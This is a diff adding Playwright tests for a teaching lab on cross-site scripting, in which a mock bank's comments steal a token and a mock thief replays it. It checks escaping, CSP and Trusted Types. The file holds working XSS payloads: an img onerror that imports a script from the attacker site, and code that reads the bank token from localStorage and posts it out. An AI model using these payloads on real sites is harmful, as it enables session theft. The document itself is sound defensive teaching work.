@@ -1,0 +1,394 @@
+import { expect, type Page, type Request } from '@playwright/test';
+import { Arrival } from '@session-lab/contract/labs/bank';
+import * as z from 'zod';
+import { newUser } from '../support/account.ts';
+import { openBank, sitesOf } from '../support/bank.ts';
+import { signUpOnPage, storedToken, test } from '../support/browser.ts';
+import { expectAnswer } from '../support/course.ts';
+import {
+  expectAccessible,
+  expectCompleted,
+  expectFitAndAccessible,
+  guess,
+  openStep,
+  resetLab,
+} from '../support/lab.ts';
+import { stack } from '../support/stack.ts';
+
+// The whole lab with real windows: each comment is stored at the bank, and runs in a page of the bank’s origin.
+
+const sites = sitesOf();
+test.use({ contextOptions: { reducedMotion: 'reduce' } });
+
+const defences = ['none', 'escape', 'csp', 'trusted-types'] as const;
+/** The outcomes in Chromium. One row for each comment and place of the token, one word for each defence. */
+const expected = {
+  'script.storage': ['token used', 'shown as text', 'CSP', 'Trusted Types'],
+  'script.memory': ['token used', 'shown as text', 'CSP', 'Trusted Types'],
+  'script.cookie': ['money moved', 'shown as text', 'CSP', 'Trusted Types'],
+  'image.storage': ['no token', 'shown as text', 'no token', 'Trusted Types'],
+  'image.memory': ['no token', 'shown as text', 'no token', 'Trusted Types'],
+  'image.cookie': ['money moved', 'shown as text', 'money moved', 'Trusted Types'],
+} as const;
+const words = Object.fromEntries(
+  Object.entries(expected).flatMap(([row, cells]) =>
+    cells.map((word, index) => [`${row}.${defences[index] ?? ''}`, word]),
+  ),
+);
+
+const cell = (page: Page, mark: string) => page.locator(`[data-cell='${mark}']`);
+/** Returns the word of each cell by its mark, from the name that screen readers read. */
+const wordsOn = async (page: Page): Promise<Record<string, string>> =>
+  Object.fromEntries(
+    await page
+      .getByRole('table', { name: 'Places of the token and defences' })
+      .getByRole('button')
+      .evaluateAll((cells) =>
+        cells.map((one) => [
+          one.getAttribute('data-cell') ?? '',
+          /[^:]+$/.exec(one.getAttribute('aria-label') ?? '')?.[0].trim() ?? '',
+        ]),
+      ),
+  );
+
+const Seen = z.object({
+  seen: z.array(z.object({ kind: z.string(), text: z.string(), origin: z.string() })),
+});
+
+/** Reads the arrivals at the bank that the page opened, and what the thief’s server has. */
+function watchSites(page: Page) {
+  let student = '';
+  page.on('request', (request: Request) => {
+    student = request.headers()['x-lab-student'] ?? student;
+  });
+  return {
+    arrivals: async () => {
+      const answer = await page.request.get('/v1/labs/bank/arrivals', {
+        headers: { 'X-Lab-Student': student },
+      });
+      return z.object({ arrivals: z.array(Arrival) }).parse(await answer.json()).arrivals;
+    },
+    seen: async () => {
+      const answer = await page.request.get(`${sites.attacker}/seen?student=${student}`);
+      return Seen.parse(await answer.json()).seen;
+    },
+  };
+}
+
+/** Opens a window by a button, and waits until the window has the path. */
+async function openBy(page: Page, name: string, path: string): Promise<Page> {
+  const opened = page.context().waitForEvent('page');
+  await page.getByRole('button', { name, exact: true }).click();
+  const window = await opened;
+  await window.waitForURL((url) => url.pathname === path);
+  return window;
+}
+
+/** Publishes the comment and reads it as Ada, as in step 2. Both windows close themselves. */
+async function publishAndRead(page: Page): Promise<void> {
+  for (const name of ['Publish the comment', 'Read the comments as Ada']) {
+    const window = await openBy(page, name, '/comments/');
+    await expect.poll(() => window.isClosed(), { timeout: 15_000 }).toBe(true);
+  }
+}
+
+async function stealToken(page: Page): Promise<void> {
+  await publishAndRead(page);
+  await (await openBy(page, 'Open the thief’s screen', '/screen')).getByText('replay: 200').waitFor();
+  await expectAnswer(page);
+}
+
+test('a script in a comment steals the token, and the thief’s server uses it while no window of Ada is open', async ({
+  page,
+  context,
+}) => {
+  const { arrivals, seen } = watchSites(page);
+  await page.goto('/labs/xss');
+  await guess(page, 'Nothing: a page can send data only to its own site');
+  await expectAccessible(page, 'before the run');
+  await expect(page.getByLabel('Mallory’s comment')).toHaveValue(/localStorage\.getItem\('bank-token'\)/);
+
+  await publishAndRead(page);
+  const facts = page.getByRole('region', { name: 'What the thief has' });
+  await expect(facts).toContainText(new URL(sites.attacker).host);
+  await expect(facts).not.toContainText('200');
+  const [stolen, ...others] = await seen();
+  expect(others).toEqual([]);
+  expect(stolen).toMatchObject({ kind: 'collect', origin: sites.bank });
+  expect(stolen?.text).toMatch(/^[\w-]{86}$/);
+  // The windows of the bank are closed: only the page of the lab is open.
+  expect(context.pages()).toHaveLength(1);
+  await expect(page.getByText(/^(Right answer|You were right)/)).toHaveCount(0);
+
+  const screen = await openBy(page, 'Open the thief’s screen', '/screen');
+  await expect(screen.getByRole('listitem').first()).toContainText(stolen?.text ?? 'no token');
+  await expect(screen.getByRole('listitem').last()).toContainText('replay: 200');
+  await expect(screen.getByRole('listitem').last()).toContainText('"user":"ada"');
+
+  await expectAnswer(page);
+  const replay = (await arrivals()).at(-1);
+  expect(replay).toMatchObject({
+    accepted: true,
+    status: 200,
+    user: 'ada',
+    authorization: true,
+    cookies: [],
+  });
+  // No browser sent this request.
+  expect([replay?.fetchSite, replay?.referer, replay?.origin]).toEqual([undefined, undefined, undefined]);
+  await expect(facts).toContainText('GET /me, Authorization: Bearer');
+  await expect(facts).toContainText('200 user ada');
+  await expect(page.getByRole('region', { name: 'Right answer' })).toContainText(
+    'works on the thief’s server',
+  );
+  await expect(page.getByRole('figure')).toContainText('Ada’s token');
+  await expectFitAndAccessible(page);
+  await resetLab(page);
+  await expect(facts).not.toContainText('200');
+});
+
+test('a run of all comments fills each cell in less than a minute, with what arrived at the bank and at the thief', async ({
+  page,
+  watched,
+}) => {
+  const { arrivals, seen } = watchSites(page);
+  await page.goto('/labs/xss');
+  await stealToken(page);
+  await openStep(page, 'Break it');
+  expect(new Set(Object.values(await wordsOn(page)))).toEqual(new Set(['not tried']));
+  const before = (await seen()).length;
+
+  const started = Date.now();
+  const opened = page.context().waitForEvent('page');
+  await page.getByRole('button', { name: 'Run all 24' }).click();
+  const runner = await opened;
+  await expect(page.getByText(/^24 tried: /)).toBeVisible({ timeout: 60_000 });
+  expect(Date.now() - started).toBeLessThan(60_000);
+  await expect.poll(() => runner.isClosed()).toBe(true);
+  expect(await wordsOn(page)).toEqual(words);
+  await expect(page.getByText('24 tried: Ada lost something in 5.')).toBeVisible();
+
+  // The screen agrees with the requests that arrived.
+  // The windows of step 2 had the label of the first cell, too.
+  const received = (await arrivals()).filter(({ atMs }) => atMs >= started);
+  for (const [mark, word] of Object.entries(words)) {
+    const own = received.filter((arrival) => arrival.mark === mark);
+    const transfer = own.find(({ path }) => path.endsWith('/transfer'));
+    const replay = own.find(({ fetchSite }) => fetchSite === undefined);
+    expect(
+      own.filter(({ report }) => report !== undefined),
+      mark,
+    ).toHaveLength(1);
+    expect(replay?.accepted, mark).toBe(word === 'token used' ? true : undefined);
+    expect(transfer?.accepted === true, mark).toBe(word === 'money moved');
+    if (word === 'money moved') expect(transfer?.cookies, mark).toEqual(['bank']);
+    if (word === 'no token') expect(transfer, mark).toMatchObject({ status: 401, cookies: [] });
+    if (mark.startsWith('script.cookie')) expect(replay, mark).toBeUndefined();
+  }
+  // The thief received two tokens, and used both: none with a policy, with escaping, or out of the HttpOnly cookie.
+  const kinds = (await seen()).slice(before).map(({ kind }) => kind);
+  expect(kinds).toEqual(['collect', 'replay', 'collect', 'replay']);
+  await expectCompleted(page);
+  await expectAccessible(page, 'after all comments');
+  expectPolicyReports(watched, ['script-src-attr', 'require-trusted-types-for']);
+});
+
+test('a click on a cell runs one comment, explains its outcome, and leads to the code of its switch', async ({
+  page,
+  watched,
+}) => {
+  await page.goto('/labs/xss');
+  await stealToken(page);
+  await openStep(page, 'Break it');
+  const selected = page.getByRole('region', { name: 'Selected cell' });
+
+  await cell(page, 'script.cookie.none').click();
+  await expect(selected).toContainText('The thief has no token');
+  await expect(page.getByRole('figure')).toContainText('Ada € 900');
+  await expect(cell(page, 'script.cookie.none')).toHaveAccessibleName(/: money moved$/);
+  await expect(cell(page, 'script.cookie.csp')).toHaveAccessibleName(/: not tried$/);
+  await expectCompleted(page);
+
+  await cell(page, 'script.memory.none').click();
+  await expect(selected).toContainText('It replaced fetch');
+  await expect(selected).toContainText('200, user ada');
+
+  await cell(page, 'image.cookie.csp').click();
+  await expect(selected).toContainText('The image caused a request');
+  await selected.getByRole('button', { name: 'Code of this defence' }).click();
+  const source = page.getByLabel('Source: nginx/bank.conf');
+  await expect(source.locator('[data-marked="true"]').first()).toContainText('$bank_csp');
+  await expect(source).toBeInViewport();
+  expectPolicyReports(watched, []);
+});
+
+test('a student can change a comment: its cells are empty again, and the changed comment is what runs', async ({
+  page,
+}) => {
+  await page.goto('/labs/xss');
+  await stealToken(page);
+  await openStep(page, 'Break it');
+  await page.getByRole('group', { name: 'Comment' }).getByRole('button', { name: 'Image' }).click();
+  await cell(page, 'image.cookie.none').click();
+  await expect(cell(page, 'image.cookie.none')).toHaveAccessibleName(/: money moved$/);
+
+  await page.getByLabel('Comment “Image”, which you can change').fill('<b>Nice</b> bank!');
+  await expect(cell(page, 'image.cookie.none')).toHaveAccessibleName(/: not tried$/);
+  await cell(page, 'image.cookie.none').click();
+  await expect(cell(page, 'image.cookie.none')).toHaveAccessibleName(/: no effect$/);
+  await cell(page, 'image.cookie.escape').click();
+  await expect(cell(page, 'image.cookie.escape')).toHaveAccessibleName(/: shown as text$/);
+});
+
+test('the policies of the bank’s page are in its response, and the browser enforces them', async ({
+  page,
+  request,
+  watched,
+}) => {
+  const bank = await openBank(request);
+  const markup = `<img src="/none" onerror="document.title = 'stolen'"><i>slanted</i>`;
+  await bank.signIn(page, { carrier: 'lax' });
+  await page.getByRole('link', { name: 'Comments' }).click();
+  await page.getByLabel('Your comment').fill(markup);
+  await page.getByRole('button', { name: 'Publish' }).click();
+  await expect(page).toHaveTitle('stolen');
+
+  const open = async (search: string): Promise<string> => {
+    const response = await page.goto(`${sites.bank}/comments/?student=${bank.student}&${search}`);
+    await page.waitForLoadState('networkidle');
+    return (await response?.headerValue('Content-Security-Policy')) ?? '';
+  };
+  const slanted = page.locator('i');
+
+  expect(await open('csp=on')).toContain("script-src 'self'");
+  await expect(slanted).toBeVisible();
+  await expect(page).not.toHaveTitle('stolen');
+  expectPolicyReports(watched, ['script-src-attr']);
+
+  expect(await open('trusted-types=on')).toContain("require-trusted-types-for 'script'");
+  await expect(page.getByRole('status')).toContainText('TrustedHTML');
+  await expect(slanted).toHaveCount(0);
+  await expect(page).not.toHaveTitle('stolen');
+  expectPolicyReports(watched, ['require-trusted-types-for']);
+
+  expect(await open('escape=on')).toBe('');
+  await expect(page.getByRole('listitem')).toHaveText(`ada: ${markup}`);
+  await expect(page).not.toHaveTitle('stolen');
+  expectPolicyReports(watched, []);
+
+  expect(await open('')).toBe('');
+  await expect(page).toHaveTitle('stolen');
+});
+
+test('the script of a comment reaches no page, no storage, no response and no token of the app', async ({
+  page,
+  context,
+  request,
+}) => {
+  await page.goto(stack.baseUrl);
+  await signUpOnPage(page, newUser());
+  const token = (await storedToken(page)) ?? '';
+  expect(token).toMatch(/^[\w-]{86}$/);
+
+  // The comment loads the rest of the script from the thief’s server, as a real comment would.
+  const bank = await openBank(request);
+  await context.route(`${sites.attacker}/attempts.js`, (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'Access-Control-Allow-Origin': '*' },
+      body: `export default (${attempts.toString()})('${stack.baseUrl}', '${bank.attack('/collect')}')`,
+    }),
+  );
+  const victim = await context.newPage();
+  await bank.signIn(victim, { token: 'storage' });
+  await victim.getByRole('link', { name: 'Comments' }).click();
+  await victim
+    .getByLabel('Your comment')
+    .fill(`<img src="/none" onerror="import('${sites.attacker}/attempts.js')">`);
+  await victim.getByRole('button', { name: 'Publish' }).click();
+
+  const collected = async (): Promise<string> => (await request.get(bank.attack('/seen'))).text();
+  await expect.poll(collected).toContain('own token');
+  const { seen } = Seen.parse(JSON.parse(await collected()));
+  expect(seen).toHaveLength(1);
+  expect(seen[0]?.origin).toBe(sites.bank);
+  expect(JSON.parse(seen[0]?.text ?? '')).toEqual({
+    // The script really runs in the bank: it has the bank’s token, and nothing else.
+    'own token': 86,
+    'keys in storage': 'bank-token',
+    'read the app': 'TypeError',
+    'read the app with cookies': 'TypeError',
+    'the app’s API on this port': '404',
+    'a frame of the app': 'SecurityError',
+    'the document in the frame': 'none',
+  });
+  expect(JSON.stringify(seen)).not.toContain(token);
+});
+
+/** Runs in the page of the bank, as a part of the comment. */
+async function attempts(app: string, collect: string): Promise<void> {
+  const frame = document.createElement('iframe');
+  frame.src = app;
+  document.body.append(frame);
+  await new Promise((resolve) => frame.addEventListener('load', resolve));
+  const list: Record<string, () => unknown> = {
+    'own token': () => localStorage.getItem('bank-token')?.length,
+    'keys in storage': () => Object.keys(localStorage).join(' '),
+    'read the app': async () => (await fetch(`${app}/v1/ping`)).text(),
+    'read the app with cookies': async () =>
+      (await fetch(`${app}/v1/users/me`, { credentials: 'include' })).text(),
+    'the app’s API on this port': async () => `${(await fetch('/v1/users/me')).status}`,
+    'a frame of the app': () => frame.contentWindow?.localStorage.length,
+    'the document in the frame': () => frame.contentDocument?.title ?? 'none',
+  };
+  const outcomes: Record<string, unknown> = {};
+  for (const [name, attempt] of Object.entries(list)) {
+    try {
+      // oxlint-disable-next-line no-await-in-loop -- one attempt after another
+      outcomes[name] = await attempt();
+    } catch (error) {
+      outcomes[name] = error instanceof Error ? error.name : 'error';
+    }
+  }
+  await fetch(collect, { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) });
+}
+
+test('a run whose window is closed stops, and the cells that were not tried stay empty', async ({
+  page,
+  watched,
+}) => {
+  await page.goto('/labs/xss');
+  await stealToken(page);
+  await openStep(page, 'Break it');
+  const opened = page.context().waitForEvent('page');
+  await page.getByRole('button', { name: 'Run all 24' }).click();
+  const runner = await opened;
+  await expect(cell(page, 'script.storage.escape')).toHaveAccessibleName(/: shown as text$/);
+  await runner.close();
+  await expect(
+    page.getByRole('region', { name: 'Break it' }).getByText('Not all requests arrived at the bank.'),
+  ).toBeVisible({ timeout: 40_000 });
+  await expect(cell(page, 'image.cookie.none')).toHaveAccessibleName(/: not tried$/);
+  await expect(page.getByRole('button', { name: 'Run all 24' })).toBeEnabled();
+  watched.length = 0;
+});
+
+test('without the sites, the lab states why it is off, and a blocked window has a note', async ({ page }) => {
+  await page.goto('/labs/xss');
+  await page.evaluate(() => {
+    window.open = () => null;
+  });
+  const run = page.getByRole('region', { name: 'Run', exact: true });
+  await page.getByRole('button', { name: 'Publish the comment' }).click();
+  await expect(run).toContainText('The browser blocked the window.');
+  await page.route('/v1/labs/sites', (route) => route.fulfill({ json: { reason: 'public_host' } }));
+  await page.reload();
+  await expect(run).toContainText('this lab works only there');
+  await expect(page.getByRole('button', { name: 'Publish the comment' })).toBeDisabled();
+});
+
+/** Expects that the browser enforced these directives and no others, and that the pages had no other complaint. */
+function expectPolicyReports(watched: string[], directives: readonly string[]): void {
+  const found = watched.splice(0).map((text) => /"directive":"([^"]+)"/.exec(text)?.[1] ?? text);
+  expect([...new Set(found)].sort()).toEqual([...directives].sort());
+}
